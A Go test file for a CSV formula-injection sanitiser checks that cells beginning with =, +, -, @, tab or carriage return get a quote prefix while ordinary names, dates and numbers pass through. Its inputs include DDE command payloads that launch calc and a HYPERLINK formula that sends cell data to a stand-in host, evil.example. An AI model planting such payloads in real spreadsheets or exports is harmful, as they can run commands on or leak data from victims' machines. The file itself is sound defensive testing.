package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestCell(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, in, want string
	}{
		{"dde", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"hyperlink", `=HYPERLINK("https://evil.example/?d="&A1,"klikk")`, `'=HYPERLINK("https://evil.example/?d="&A1,"klikk")`},
		{"plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"name", "Åse Øvergård-Bø", "Åse Øvergård-Bø"},
		{"person id", "1547-10234", "1547-10234"},
		{"iso date", "2026-12-04T13:59:20Z", "2026-12-04T13:59:20Z"},
		{"negative number", "-42", "-42"},
		{"negative decimal", "-4.5", "-4.5"},
		{"signed number", "+47", "+47"},
		{"phone number with spaces", "+47 22 33 44 55", "'+47 22 33 44 55"},
		{"minus alone", "-", "'-"},
		{"equals inside", "a=b", "a=b"},
		{"empty", "", ""},
		{"quoted already", "'=1", "'=1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			require.Equal(t, tc.want, Cell(tc.in))
		})
	}
}

func TestRow(t *testing.T) {
	t.Parallel()
	row := []string{"1547-1", "=HYPERLINK(\"x\")", "ok"}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	require.NoError(t, w.Write(Row(row)))
	w.Flush()
	require.Equal(t, "1547-1,\"'=HYPERLINK(\"\"x\"\")\",ok\n", b.String())
	require.Equal(t, "=HYPERLINK(\"x\")", row[1], "the caller's slice is left alone")
}
